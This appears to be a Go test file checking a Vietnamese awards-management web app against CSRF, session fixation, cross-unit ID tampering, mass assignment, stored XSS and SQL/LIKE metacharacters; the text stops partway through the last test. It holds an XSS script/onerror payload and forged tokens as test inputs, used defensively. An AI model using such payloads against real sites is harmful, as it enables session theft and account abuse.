package web_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"thidua/internal/app"
	"thidua/internal/auth"
	"thidua/internal/seed"
)

// Security tests: what an attacker would try against the pages and the
// API, beyond who may use which route (authz_matrix_test.go). docs/security.md
// describes the controls these tests prove.

// auditRows counts the change history: a refused request writes nothing.
func auditRows(t *testing.T, s *site) int {
	t.Helper()
	var n int
	if err := s.store.SQL().QueryRow(`SELECT count(*) FROM audit_log`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// setToday moves the app's clock, for deadlines and comment windows.
func setToday(s *site, y int, m time.Month, d int) {
	at := time.Date(y, m, d, 3, 0, 0, 0, time.UTC)
	s.app.Now = func() time.Time { return at }
}

// jsonAt walks a decoded JSON object by keys.
func jsonAt(v any, keys ...string) any {
	for _, k := range keys {
		m, ok := v.(map[string]any)
		if !ok {
			return nil
		}
		v = m[k]
	}
	return v
}

func jsonID(t *testing.T, v any, keys ...string) int64 {
	t.Helper()
	f, ok := jsonAt(v, keys...).(float64)
	if !ok {
		t.Fatalf("no number at %v in %v", keys, v)
	}
	return int64(f)
}

// TestCSRFOnEveryFormRoute posts to every state-changing page route of the
// router, as a signed-in administrator, with the token missing, wrong,
// taken from another session, or right but sent cross-site: every one is
// refused and nothing is written.
func TestCSRFOnEveryFormRoute(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	w := newAuthzWorld(t, s)
	admin := s.browser(t)
	admin.login("admin")
	token := admin.csrf()
	elsewhere := s.browser(t)
	elsewhere.login("hoidong")
	before := auditRows(t, s)

	type forgery struct {
		name   string
		token  string
		header string // Sec-Fetch-Site
	}
	forgeries := []forgery{
		{"no token", "", ""},
		{"a wrong token", "khong-phai-ma-that", ""},
		{"another session's token", elsewhere.csrf(), ""},
		{"the right token sent cross-site", token, "cross-site"},
	}
	routes, checked := 0, 0
	for _, r := range appRoutes(t, s) {
		method, path, _ := strings.Cut(r, " ")
		if method == http.MethodGet || strings.HasPrefix(path, "/api/") {
			continue
		}
		routes++
		fresh, _ := w.prepare(t, s, path)
		target := w.fill(t, path, fresh)
		for _, f := range forgeries {
			form := url.Values{"unit_id": {itoa(w.unit)}, "reason": {"giả mạo"}}
			if f.token != "" {
				form.Set("_csrf", f.token)
			}
			send, to := method, s.URL+target
			if method != http.MethodPost { // as the page's form sends it
				send, to = http.MethodPost, to+"?_method="+method
			}
			req, _ := http.NewRequest(send, to, strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			if f.header != "" {
				req.Header.Set("Sec-Fetch-Site", f.header)
			}
			res := admin.do(req)
			// Echo refuses a cross-site request before it reads the token,
			// with a plain 403 rather than the page's CSRF message.
			if res.status != http.StatusForbidden || f.header == "" && !strings.Contains(res.body, "CSRF") {
				t.Errorf("%s %s with %s: %d %.200s", method, target, f.name, res.status, res.body)
			}
			checked++
		}
	}
	if routes < 50 {
		t.Fatalf("only %d form routes found: is the router list read correctly?", routes)
	}
	if after := auditRows(t, s); after != before {
		t.Errorf("forged requests wrote %d audit rows", after-before)
	}
	// The forged sign-out was refused too: the session still works.
	if r := admin.get("/users"); r.status != http.StatusOK {
		t.Errorf("session after forged requests: %d", r.status)
	}
	// The real token does work, so the refusals above are the token's doing.
	if r := admin.send(http.MethodPut, "/users/"+itoa(w.user)+"/active", url.Values{"active": {"false"}}); r.status != http.StatusSeeOther {
		t.Errorf("lock with the token: %d", r.status)
	}
	t.Logf("CSRF: %d form routes × %d forgeries = %d requests refused", routes, len(forgeries), checked)
}

// sessionRows counts the server's sessions with a given token.
func sessionRows(t *testing.T, s *site, token string) int {
	t.Helper()
	var n int
	if err := s.store.SQL().QueryRow(`SELECT count(*) FROM sessions WHERE token = $1`, token).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// TestSessionFixation: the session id changes at sign-in, whether the
// server issued the old one or an attacker planted it, and sign-out ends
// the session on the server, so replaying its cookie gets nothing.
func TestSessionFixation(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	u, _ := url.Parse(s.URL)
	withCookie := func(value string) *browser {
		b := s.browser(t)
		b.hc.Jar.SetCookies(u, []*http.Cookie{{Name: "thidua_session", Value: value, Path: "/"}})
		return b
	}
	signedIn := func(b *browser) bool {
		r := b.get("/")
		return r.status == http.StatusOK
	}

	// A session the server issued before sign-in (it holds the "please sign in" notice).
	b := s.browser(t)
	if r := b.get("/units"); r.status != http.StatusSeeOther {
		t.Fatalf("anonymous /units: %d", r.status)
	}
	pre := b.sessionCookie()
	if pre == "" {
		t.Fatal("no session before sign-in: the test proves nothing")
	}
	b.login("canbo.nghean")
	post := b.sessionCookie()
	if post == "" || post == pre {
		t.Fatalf("session id not renewed at sign-in: before %q after %q", pre, post)
	}
	if signedIn(withCookie(pre)) {
		t.Fatal("the pre-sign-in session id is signed in")
	}
	if n := sessionRows(t, s, pre); n != 0 {
		t.Fatalf("the pre-sign-in session is still stored (%d)", n)
	}

	// A session id planted by an attacker before the victim signs in.
	const planted = "ke-tan-cong-dat-san-ma-phien-0123456789abcdef"
	victim := withCookie(planted)
	victim.login("canbo.nghean")
	if got := victim.sessionCookie(); got == planted || got == "" {
		t.Fatalf("the planted session id was kept: %q", got)
	}
	if signedIn(withCookie(planted)) {
		t.Fatal("the attacker's planted session id is signed in")
	}

	// Sign-out ends the session on the server: its cookie replayed gets nothing.
	old := victim.sessionCookie()
	if r := victim.post("/logout", nil); r.status != http.StatusSeeOther {
		t.Fatalf("logout: %d", r.status)
	}
	if n := sessionRows(t, s, old); n != 0 {
		t.Fatalf("session still stored after sign-out (%d)", n)
	}
	replay := withCookie(old)
	if r := replay.get("/people"); r.status != http.StatusSeeOther || !strings.HasPrefix(r.location, "/login") {
		t.Fatalf("replayed cookie after sign-out, GET: %d %s", r.status, r.location)
	}
	before := auditRows(t, s)
	if r := replay.post("/people", url.Values{"full_name": {"Nguyễn Văn Phát Lại"}, "unit_id": {itoa(s.unit(t, seed.ProvinceCode("Nghệ An")))},
		"since": {"01/01/2020"}}); r.status != http.StatusUnauthorized {
		t.Fatalf("replayed cookie after sign-out, POST: %d", r.status)
	}
	if auditRows(t, s) != before {
		t.Fatal("a replayed session wrote")
	}
	// The other session of the same user (b) is not affected by this sign-out.
	if !signedIn(b) {
		t.Fatal("signing out one session ended another")
	}
}

// TestOtherUnitsIDs: an officer of Nghệ An puts ids of Thanh Hóa's objects
// in URLs and JSON bodies; each is refused and nothing of Thanh Hóa changes.
func TestOtherUnitsIDs(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	w := newAuthzWorld(t, s)
	db := s.store.SQL()
	na := s.token(t, "canbo.nghean")
	th := w.headUnit
	thPerson := authzID(t, db, `SELECT id FROM people WHERE unit_id = $1 ORDER BY id LIMIT 1`, th)
	thInitiative := authzID(t, db, `SELECT i.id FROM person_initiatives i JOIN people p ON p.id = i.person_id WHERE p.unit_id = $1 LIMIT 1`, th)
	thDiscipline := authzID(t, db, `SELECT d.id FROM person_disciplines d JOIN people p ON p.id = d.person_id WHERE p.unit_id = $1 LIMIT 1`, th)
	thProposal := authzID(t, db, `SELECT id FROM proposals WHERE proposer_unit_id = $1 AND year = 2026 ORDER BY id LIMIT 1`, th)
	unsigned := authzID(t, db, `SELECT id FROM units WHERE code = $1`, seed.ProvinceCode("Hà Tĩnh")) // a member yet to sign
	before := auditRows(t, s)
	thPeople := authzID(t, db, `SELECT count(*) FROM people WHERE unit_id = $1`, th)

	person := map[string]any{"full_name": "Nguyễn Văn Cài Cắm", "since": "2020-01-01", "position": "Kiểm sát viên"}
	with := func(m map[string]any, k string, v any) map[string]any {
		out := map[string]any{k: v}
		for kk, vv := range m {
			if kk != k {
				out[kk] = vv
			}
		}
		return out
	}
	cases := []struct {
		name, method, path string
		body               any
		want               int
	}{
		{"a person created in another unit", "POST", "/people", with(person, "unit_id", th), 403},
		{"another unit's person edited", "PUT", "/people/" + itoa(thPerson), with(person, "unit_id", th), 403},
		{"one's own person moved into another unit", "PUT", "/people/" + itoa(w.person), with(with(person, "unit_id", th), "since", "2026-06-01"), 403},
		{"a rating for another unit's person", "POST", "/people/" + itoa(thPerson) + "/ratings", map[string]any{"year": 2025, "rating": "htxs"}, 403},
		{"another person's initiative under one's own person", "DELETE", "/people/" + itoa(w.person) + "/initiatives/" + itoa(thInitiative), nil, 404},
		{"another person's discipline under one's own person", "DELETE", "/people/" + itoa(w.person) + "/disciplines/" + itoa(thDiscipline), nil, 404},
		{"another unit's filing", "PUT", "/years/2026/filings/" + itoa(th), map[string]any{"entries": []any{}, "version": 1}, 403},
		{"another unit's registration", "PUT", "/years/2026/registrations/" + itoa(th), map[string]any{"note": "x"}, 403},
		{"another unit's collective facts", "PUT", "/units/" + itoa(th) + "/facts/2026", map[string]any{"rating": "htxs"}, 403},
		{"a proposal in another unit's name", "POST", "/proposals", map[string]any{"year": 2026, "proposer_unit_id": th, "person_id": thPerson, "title": "ldtt"}, 403},
		{"another unit's proposal edited", "PUT", "/proposals/" + itoa(thProposal), map[string]any{"year": 2026, "proposer_unit_id": w.unit, "title": "ldtt"}, 403},
		{"another unit's proposal submitted", "POST", "/proposals/" + itoa(thProposal) + "/submit", map[string]any{"version": 1}, 403},
		{"another member's pledge line signed", "POST", "/pledges/" + itoa(w.pledge) + "/signatures", map[string]any{"unit_id": unsigned, "representative": "Giả danh", "position": "Viện trưởng"}, 403},
		{"a ballot cast for another member", "POST", "/votes/" + itoa(w.vote) + "/ballots", map[string]any{"unit_id": th, "choices": map[string]bool{}}, 403},
		{"another unit's personnel import", "POST", "/units/" + itoa(th) + "/people/import", map[string]any{}, 403},
		{"another unit's personnel template", "GET", "/units/" + itoa(th) + "/people/template.xlsx", nil, 403},
		{"another unit's filing read", "GET", "/years/2026/filings/" + itoa(w.otherUnit), nil, 403},
	}
	for _, c := range cases {
		st, body := s.api(t, na, c.method, c.path, c.body)
		if st != c.want {
			t.Errorf("%s (%s %s): want %d, got %d %v", c.name, c.method, c.path, c.want, st, body)
		}
	}
	// A proposal of one's own unit for another unit's person.
	st, body := s.api(t, na, "POST", "/proposals", map[string]any{"year": 2026, "proposer_unit_id": w.unit, "person_id": thPerson, "title": "ldtt"})
	if st != 422 || fields(body)["person_id"] == nil {
		t.Errorf("own proposal for another unit's person: %d %v", st, body)
	}
	// Lists do not widen to another unit when asked for it.
	if st, body := s.api(t, na, "GET", "/people?unit_id="+itoa(th), nil); st != 200 || jsonAt(body, "total") != float64(0) {
		t.Errorf("people of another unit listed: %d total %v", st, jsonAt(body, "total"))
	}
	if st, body := s.api(t, na, "GET", "/units?q=thanh+hoa", nil); st != 200 || jsonAt(body, "total") != float64(0) {
		t.Errorf("another unit found in the registry: %d total %v", st, jsonAt(body, "total"))
	}
	if st, body := s.api(t, na, "GET", "/proposals?year=2026&unit_id="+itoa(th), nil); st != 200 || len(asList(jsonAt(body, "proposals"))) != 0 {
		t.Errorf("another unit's proposals listed: %d %d", st, len(asList(jsonAt(body, "proposals"))))
	}
	// Award documents: query parameters that would widen an officer's scope
	// (the tờ trình is always one unit's: it has no scope to widen).
	for _, doc := range []string{"list.xlsx?unit_id=" + itoa(th), "list.xlsx?scope=sector", "list.xlsx?scope=cluster&cluster_id=" + itoa(w.cluster),
		"list.xlsx?cluster_id=" + itoa(w.cluster), "submission.xlsx?unit_id=" + itoa(th)} {
		if st, _ := s.api(t, na, "GET", "/years/2026/proposals/"+doc, nil); st != http.StatusForbidden {
			t.Errorf("%s: %d", doc, st)
		}
	}

	// The same through pages: ids in the URL and in the form.
	b := s.browser(t)
	b.login("canbo.nghean")
	for _, c := range []struct {
		name string
		r    reply
	}{
		{"another unit's filing page", b.get("/years/2026/filings/" + itoa(w.otherUnit))},
		{"another unit's person page", b.get("/people/" + itoa(thPerson))},
		{"another unit's person saved", b.post("/people/"+itoa(thPerson), url.Values{"full_name": {"Đổi Tên"}, "unit_id": {itoa(w.unit)}})},
		{"another unit's facts saved", b.send(http.MethodPut, "/units/"+itoa(th)+"/facts/2026", url.Values{"rating": {"htxs"}})},
		{"another unit's filing saved", b.send(http.MethodPut, "/years/2026/filings/"+itoa(th), url.Values{"version": {"1"}})},
		{"another member's pledge line signed", b.post("/pledges/"+itoa(w.pledge)+"/signatures", url.Values{"unit_id": {itoa(unsigned)}})},
	} {
		if c.r.status != http.StatusForbidden {
			t.Errorf("%s: %d", c.name, c.r.status)
		}
	}
	if r := b.get("/people?unit_id=" + itoa(th)); r.status != 200 || strings.Contains(r.body, "Đặng Văn Quang") {
		t.Errorf("another unit's people in the list page: %d", r.status)
	}

	if after := auditRows(t, s); after != before {
		t.Errorf("refused requests wrote %d audit rows", after-before)
	}
	if n := authzID(t, db, `SELECT count(*) FROM people WHERE unit_id = $1`, th); n != thPeople {
		t.Errorf("Thanh Hóa's people: %d, was %d", n, thPeople)
	}
	for _, q := range []string{`SELECT count(*) FROM person_initiatives WHERE id = $1`, `SELECT count(*) FROM person_disciplines WHERE id = $1`} {
		id := thInitiative
		if strings.Contains(q, "disciplines") {
			id = thDiscipline
		}
		if authzID(t, db, q, id) != 1 {
			t.Errorf("%s %d: deleted through another person's URL", q, id)
		}
	}
}

// TestMassAssignment: fields a role may not set, sent in JSON bodies and
// forms, are ignored: status, reviewed scores, approval, ids, a user's
// role and unit, and the unit and year of a registration.
func TestMassAssignment(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	w := newAuthzWorld(t, s)
	db := s.store.SQL()
	na := s.token(t, "canbo.nghean")
	head := s.token(t, "canbo.thanhhoa")
	admin := s.token(t, "admin")
	th := w.headUnit

	// A proposal created "approved, under a decision".
	person := authzID(t, db, `SELECT id FROM people p WHERE unit_id = $1 AND NOT EXISTS
		(SELECT 1 FROM proposals r WHERE r.person_id = p.id AND r.year = 2026) ORDER BY id LIMIT 1`, w.unit)
	st, body := s.api(t, na, "POST", "/proposals", map[string]any{"year": 2026, "proposer_unit_id": w.unit, "person_id": person,
		"title": "ldtt", "summary": "Hoàn thành tốt nhiệm vụ", "id": 1, "version": 9, "status": "approved", "decision_id": w.decision,
		"verdict_outcome": "eligible", "reject_reason": "", "override_reason": "tự duyệt"})
	if st != http.StatusCreated {
		t.Fatalf("create proposal: %d %v", st, body)
	}
	pid := jsonID(t, body, "id")
	var status string
	var decision *int64
	if err := db.QueryRow(`SELECT status, decision_id FROM proposals WHERE id = $1`, pid).Scan(&status, &decision); err != nil {
		t.Fatal(err)
	}
	if pid == 1 || status != "draft" || decision != nil {
		t.Errorf("proposal took mass-assigned fields: id %d status %s decision %v", pid, status, decision)
	}
	// … and edited to "approved".
	st, body = s.api(t, na, "PUT", "/proposals/"+itoa(pid), map[string]any{"year": 2026, "proposer_unit_id": th, "person_id": person,
		"title": "ldtt", "summary": "Sửa", "version": 1, "status": "approved", "decision_id": w.decision})
	if st != http.StatusOK {
		t.Fatalf("update proposal: %d %v", st, body)
	}
	var proposer int64
	if err := db.QueryRow(`SELECT status, decision_id, proposer_unit_id FROM proposals WHERE id = $1`, pid).Scan(&status, &decision, &proposer); err != nil {
		t.Fatal(err)
	}
	if status != "draft" || decision != nil || proposer != w.unit {
		t.Errorf("proposal edit took mass-assigned fields: status %s decision %v proposer %d", status, decision, proposer)
	}

	// A filing saved with its own "reviewed" status and reviewer's scores.
	setToday(s, 2026, time.June, 15)
	st, body = s.api(t, na, "GET", "/years/2026/filings/"+itoa(w.unit), nil)
	if st != 200 {
		t.Fatalf("filing: %d %v", st, body)
	}
	crit := jsonID(t, jsonAt(body, "table", "criteria").([]any)[1], "id")
	version := jsonID(t, body, "filing", "version")
	st, body = s.api(t, na, "PUT", "/years/2026/filings/"+itoa(w.unit), map[string]any{"version": version, "entries": []any{},
		"status": "reviewed", "reviewed_at": "2026-06-01T00:00:00Z", "unit_id": th, "table_id": 1,
		"review": map[string]any{itoa(crit): map[string]any{"score": 999}}, "filing": map[string]any{"status": "reviewed"}})
	if st != 200 {
		t.Fatalf("save filing: %d %v", st, body)
	}
	var fst string
	var reviewRows int
	if err := db.QueryRow(`SELECT status FROM assessments WHERE unit_id = $1 AND year = 2026`, w.unit).Scan(&fst); err != nil {
		t.Fatal(err)
	}
	if err := db.QueryRow(`SELECT count(*) FROM assessment_entries e JOIN assessments a ON a.id = e.assessment_id
		WHERE a.unit_id = $1 AND a.year = 2026 AND e.rev_set`, w.unit).Scan(&reviewRows); err != nil {
		t.Fatal(err)
	}
	if fst == "reviewed" || reviewRows != 0 {
		t.Errorf("filing took mass-assigned fields: status %s, %d reviewed rows", fst, reviewRows)
	}

	// The pledge saved by the head as "final" with members' lines "signed".
	st, body = s.api(t, head, "GET", "/clusters/"+itoa(w.cluster)+"/pledge", nil)
	if st != 200 {
		t.Fatalf("pledge: %d", st)
	}
	pv := jsonID(t, body, "pledge", "version")
	st, body = s.api(t, head, "PUT", "/clusters/"+itoa(w.cluster)+"/pledge", map[string]any{"version": pv,
		"title": "Giao ước thi đua năm 2026", "place": "Thanh Hóa", "preamble": "Các đơn vị cam kết.",
		"commitments": []any{map[string]any{"text": "Hoàn thành chỉ tiêu."}}, "status": "final",
		"signatures":      []any{map[string]any{"unit_id": w.unit, "signed_at": "2026-03-01T00:00:00Z"}},
		"signature_lines": []any{map[string]any{"unit_id": w.unit, "representative": "Ai đó", "position": "Viện trưởng", "signed_at": "2026-03-01T00:00:00Z"}}})
	if st != 200 {
		t.Fatalf("save pledge: %d %v", st, body)
	}
	if jsonAt(body, "status") != "draft" {
		t.Errorf("pledge status after a save asking for final: %v", jsonAt(body, "status"))
	}
	for _, sg := range jsonAt(body, "signatures").([]any) {
		if jsonAt(sg, "unit_id") == float64(w.unit) && jsonAt(sg, "signed_at") != nil {
			t.Errorf("Nghệ An's line signed by the head's save: %v", sg)
		}
	}

	// A registration for another unit and year, through one's own URL.
	setToday(s, 2026, time.January, 15)
	var thNote string
	var thVersion int
	if err := db.QueryRow(`SELECT note, version FROM registrations WHERE unit_id = $1 AND year = 2026`, th).Scan(&thNote, &thVersion); err != nil {
		t.Fatal(err)
	}
	thReg := authzID(t, db, `SELECT id FROM registrations WHERE unit_id = $1 AND year = 2026`, th)
	st, body = s.api(t, na, "PUT", "/years/2026/registrations/"+itoa(w.unit), map[string]any{"id": thReg, "unit_id": th, "year": 2020,
		"version": 0, "collective_title": "tt_ldtt", "note": "Ghi đè?", "people": []any{}, "submitted_at": "2020-01-01T00:00:00Z"})
	if st != 200 || jsonAt(body, "unit_id") != float64(w.unit) || jsonAt(body, "year") != float64(2026) {
		t.Fatalf("registration: %d %v", st, body)
	}
	var note string
	var v int
	if err := db.QueryRow(`SELECT note, version FROM registrations WHERE unit_id = $1 AND year = 2026`, th).Scan(&note, &v); err != nil {
		t.Fatal(err)
	}
	if note != thNote || v != thVersion {
		t.Errorf("Thanh Hóa's registration changed: %q v%d", note, v)
	}

	// A unit's officer declaring that it leads its cluster, which only the
	// board confirms (after the cluster's vote), and who recorded it.
	naFacts := factsVersion(t, s, na, w.unit, 2026)
	st, body = s.api(t, na, "PUT", "/units/"+itoa(w.unit)+"/facts/2026", map[string]any{"rating": "htxs", "completed": true, "version": naFacts,
		"leads_cluster": true, "recorded_by": map[string]any{"leads_cluster": map[string]any{"user_id": 1, "name": "Hội đồng"}}})
	if st != http.StatusUnprocessableEntity || fields(body)["leads_cluster"] == nil {
		t.Errorf("officer sets leads_cluster: %d %v", st, body)
	}
	var leads int
	if err := db.QueryRow(`SELECT count(*) FROM collective_facts WHERE unit_id = $1 AND leads_cluster`, w.unit).Scan(&leads); err != nil {
		t.Fatal(err)
	}
	if leads != 0 {
		t.Errorf("Nghệ An leads its cluster by its own word")
	}
	st, body = s.api(t, na, "PUT", "/units/"+itoa(w.unit)+"/facts/2026", map[string]any{"rating": "htxs", "completed": true, "version": naFacts,
		"recorded_by": map[string]any{"rating": map[string]any{"user_id": 1, "name": "Hội đồng"}}, "unit_id": th, "year": 2020})
	if st != http.StatusOK {
		t.Fatalf("officer sets facts: %d %v", st, body)
	}
	if by := jsonAt(body, "recorded_by", "rating", "name"); by != "Trần Văn Nghệ" || jsonAt(body, "unit_id") != float64(w.unit) {
		t.Errorf("facts recorded by %v for unit %v", by, jsonAt(body, "unit_id"))
	}

	// A user created "inactive" with a chosen id and hash: only what an
	// administrator may set is taken, and the account works.
	st, body = s.api(t, admin, "POST", "/users", map[string]any{"username": "can.bo.moi", "full_name": "Cán Bộ Mới", "role": "officer",
		"unit_id": w.unit, "password": "mat-khau-rat-dai-2026", "id": 1, "active": false, "password_hash": "x", "version": 5})
	if st != http.StatusCreated || jsonID(t, body, "id") == 1 {
		t.Fatalf("create user: %d %v", st, body)
	}
	nb := s.browser(t)
	if r := nb.post("/login", url.Values{"username": {"can.bo.moi"}, "password": {"mat-khau-rat-dai-2026"}}); r.status != http.StatusSeeOther {
		t.Errorf("the new account does not sign in: %d", r.status)
	}

	// An officer changing their password cannot change their role or unit on the way.
	b := s.browser(t)
	b.login("canbo.nghean")
	r := b.post("/account/password", url.Values{"current": {seed.DemoPassword}, "password": {"mat-khau-moi-2026"}, "confirm": {"mat-khau-moi-2026"},
		"role": {"admin"}, "unit_id": {itoa(th)}, "username": {"admin"}, "active": {"1"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("password change: %d", r.status)
	}
	st, body = s.api(t, na, "GET", "/me", nil)
	if st != 200 || body["role"] != "officer" || body["unit_id"] != float64(w.unit) || body["username"] != "canbo.nghean" {
		t.Errorf("after a password change with extra fields: %v", body)
	}
	if r := b.get("/users"); r.status != http.StatusForbidden {
		t.Errorf("the officer reaches the user list: %d", r.status)
	}
}

// xssPayload is stored in every free-text field; pages must show it as text.
const xssPayload = `<script>alert("xss")</script><img src=x onerror=alert(1)>`

// escaped checks a page shows the payload as text, never as markup.
func escaped(t *testing.T, what string, r reply) {
	t.Helper()
	if r.status != http.StatusOK {
		t.Errorf("%s: %d", what, r.status)
		return
	}
	for _, raw := range []string{"<script>alert", "<img src=x", "onerror=alert(1)>"} {
		if strings.Contains(r.body, raw) {
			t.Errorf("%s: the page contains %q unescaped", what, raw)
		}
	}
	if !strings.Contains(r.body, "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;") {
		t.Errorf("%s: the escaped text is missing", what)
	}
}

// TestFreeTextIsEscaped stores HTML and script in every free-text field
// a user types (unit names, person names, pledge commitments and preamble,
// explanations, comments, reasons, summaries, notes) and reads them back
// on the pages that show them.
func TestFreeTextIsEscaped(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	w := newAuthzWorld(t, s)
	db := s.store.SQL()
	board := s.token(t, "hoidong")
	na := s.token(t, "canbo.nghean")
	head := s.token(t, "canbo.thanhhoa")
	p := xssPayload
	ok := func(what string, st int, body map[string]any) {
		t.Helper()
		if st >= 300 {
			t.Fatalf("%s: %d %v", what, st, body)
		}
	}

	// A unit's name, and the reason of a change in its history.
	st, body := s.api(t, board, "POST", "/units", map[string]any{"code": "VKS-XSS", "name": "Viện kiểm sát " + p, "type": "provincial",
		"parent_id": s.unit(t, seed.CodeSupreme), "valid_from": "2025-07-01", "note": p})
	ok("unit", st, body)
	unit := jsonID(t, body, "id")
	st, body = s.api(t, board, "PUT", "/units/"+itoa(unit), map[string]any{"code": "VKS-XSS", "name": "Viện kiểm sát " + p, "type": "provincial",
		"parent_id": s.unit(t, seed.CodeSupreme), "valid_from": "2025-07-01", "note": p, "version": 1, "reason": p})
	ok("unit update", st, body)

	// A member of the cluster renamed, for the pages that list units:
	// the ranking also puts names in a chart's JSON.
	ht := s.unit(t, seed.ProvinceCode("Hà Tĩnh"))
	st, body = s.api(t, board, "GET", "/units/"+itoa(ht), nil)
	ok("Hà Tĩnh", st, body)
	u := jsonAt(body, "unit").(map[string]any)
	u["name"], u["reason"] = "Viện kiểm sát nhân dân tỉnh Hà Tĩnh "+p, p
	if from, _ := u["valid_from"].(string); len(from) >= 10 {
		u["valid_from"] = from[:10]
	}
	st, body = s.api(t, board, "PUT", "/units/"+itoa(ht), u)
	ok("rename", st, body)

	// A person's name and position.
	st, body = s.api(t, board, "POST", "/people", map[string]any{"unit_id": w.unit, "full_name": "Nguyễn " + p, "position": p, "since": "2020-01-01"})
	ok("person", st, body)
	person := jsonID(t, body, "id")

	// A registration's note and registered people (before its deadline).
	setToday(s, 2026, time.January, 15)
	st, body = s.api(t, na, "PUT", "/years/2026/registrations/"+itoa(w.unit), map[string]any{"collective_title": "tt_ldtt", "note": p,
		"people": []any{map[string]any{"full_name": "Trần " + p, "position": p, "title": "ldtt"}}})
	ok("registration", st, body)

	// The pledge's preamble, commitments and signature lines, by the head.
	st, body = s.api(t, head, "GET", "/clusters/"+itoa(w.cluster)+"/pledge", nil)
	ok("pledge", st, body)
	st, body = s.api(t, head, "PUT", "/clusters/"+itoa(w.cluster)+"/pledge", map[string]any{"version": jsonID(t, body, "pledge", "version"),
		"title": "Giao ước " + p, "place": p, "preamble": p, "commitments": []any{map[string]any{"text": p}},
		"signature_lines": []any{map[string]any{"unit_id": w.unit, "representative": "Lê " + p, "position": p}}})
	ok("pledge save", st, body)

	// An explanation and evidence in the unit's own filing (before its deadline).
	setToday(s, 2026, time.June, 15)
	st, body = s.api(t, na, "GET", "/years/2026/filings/"+itoa(w.unit), nil)
	ok("filing", st, body)
	version := jsonID(t, body, "filing", "version")
	var crit int64
	for _, c := range jsonAt(body, "table", "criteria").([]any) {
		if jsonAt(c, "method") == "indicator" {
			crit = jsonID(t, c, "id")
			break
		}
	}
	st, body = s.api(t, na, "PUT", "/years/2026/filings/"+itoa(w.unit), map[string]any{"version": version,
		"entries": []any{map[string]any{"criterion_id": crit, "not_arisen": true, "explanation": p, "evidence": p}}})
	ok("filing save", st, body)

	// A proposal's summary, a comment while published, and the board's reason to refuse.
	st, body = s.api(t, na, "POST", "/proposals", map[string]any{"year": 2026, "proposer_unit_id": w.unit, "person_id": person,
		"title": "ldtt", "summary": p})
	ok("proposal", st, body)
	own := jsonID(t, body, "id")
	setToday(s, 2026, time.November, 25) // inside the demo's publication window
	published := authzID(t, db, `SELECT id FROM proposals WHERE proposer_unit_id = $1 AND year = 2026 AND status = 'submitted' ORDER BY id LIMIT 1`, w.unit)
	st, body = s.api(t, head, "POST", "/proposals/"+itoa(published)+"/comments", map[string]any{"body": p})
	ok("comment", st, body)
	rejected := authzID(t, db, `SELECT id FROM proposals WHERE proposer_unit_id = $1 AND year = 2026 AND status = 'submitted' ORDER BY id DESC LIMIT 1`, w.unit)
	var rv int
	if err := db.QueryRow(`SELECT version FROM proposals WHERE id = $1`, rejected).Scan(&rv); err != nil {
		t.Fatal(err)
	}
	st, body = s.api(t, board, "POST", "/proposals/"+itoa(rejected)+"/reject", map[string]any{"version": rv, "reason": p})
	ok("reject", st, body)

	// Read everything back through the pages.
	bb := s.browser(t)
	bb.login("hoidong")
	nb := s.browser(t)
	nb.login("canbo.nghean")
	hb := s.browser(t)
	hb.login("canbo.thanhhoa")
	for _, c := range []struct {
		what string
		b    *browser
		path string
	}{
		{"unit list", bb, "/units?q=vks-xss"},
		{"unit page", bb, "/units/" + itoa(unit)},
		{"unit form", bb, "/units/" + itoa(unit) + "/edit"},
		{"unit history", bb, "/units/" + itoa(unit) + "/history"},
		{"people list", bb, "/people?unit_id=" + itoa(w.unit)},
		{"person page", bb, "/people/" + itoa(person)},
		{"person form", nb, "/people/" + itoa(person) + "/edit"},
		{"registration", bb, "/years/2026/registrations/" + itoa(w.unit)},
		{"pledge", bb, "/clusters/" + itoa(w.cluster) + "/pledge"},
		{"pledge print", bb, "/pledges/" + itoa(w.pledge) + "/print"},
		{"pledge form", hb, "/clusters/" + itoa(w.cluster) + "/pledge/edit"},
		{"filing", nb, "/years/2026/filings/" + itoa(w.unit)},
		{"review", hb, "/years/2026/filings/" + itoa(w.unit) + "/review"},
		{"own proposal", nb, "/proposals/" + itoa(own)},
		{"proposal form", nb, "/proposals/" + itoa(own) + "/edit"},
		{"commented proposal", bb, "/proposals/" + itoa(published)},
		{"refused proposal", nb, "/proposals/" + itoa(rejected)},
		{"proposal list", bb, "/proposals?year=2026&unit_id=" + itoa(w.unit)},
		{"cluster", bb, "/clusters/" + itoa(w.cluster)},
		{"ranking with its chart", bb, "/years/2026/ranking"},
		{"progress board", bb, "/years/2026/progress"},
		{"search box", bb, "/units?q=" + url.QueryEscape(p)},
		{"people search box", bb, "/people?q=" + url.QueryEscape(p)},
	} {
		escaped(t, c.what, c.b.get(c.path))
	}
	// A name typed at sign-in is shown back escaped too.
	anon := s.browser(t)
	r := anon.post("/login", url.Values{"username": {p}, "password": {"sai-mat-khau"}})
	for _, raw := range []string{"<script>alert", "<img src=x"} {
		if strings.Contains(r.body, raw) {
			t.Errorf("sign-in form: %q unescaped", raw)
		}
	}
}

// TestSearchMetacharacters types SQL and LIKE metacharacters into the
// search boxes: each gives a normal page with exactly the rows that hold
// the characters literally.
func TestSearchMetacharacters(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	board := s.token(t, "hoidong")
	supreme := s.unit(t, seed.CodeSupreme)
	for _, u := range []struct{ code, name string }{
		{"VKS-PT100", "Phòng thử đạt 100% chỉ tiêu"},
		{"VKS-GACH", "Phòng thử gạch_dưới"},
		{"VKS-XIEN", `Phòng thử xiên\ngược`},
		{"VKS-NHAY", "Phòng thử O'Neil"},
	} {
		if st, body := s.api(t, board, "POST", "/units", map[string]any{"code": u.code, "name": u.name, "type": "department",
			"parent_id": supreme, "valid_from": "2025-07-01"}); st != http.StatusCreated {
			t.Fatalf("unit %s: %d %v", u.code, st, body)
		}
	}
	_, all := s.api(t, board, "GET", "/units?status=all", nil)
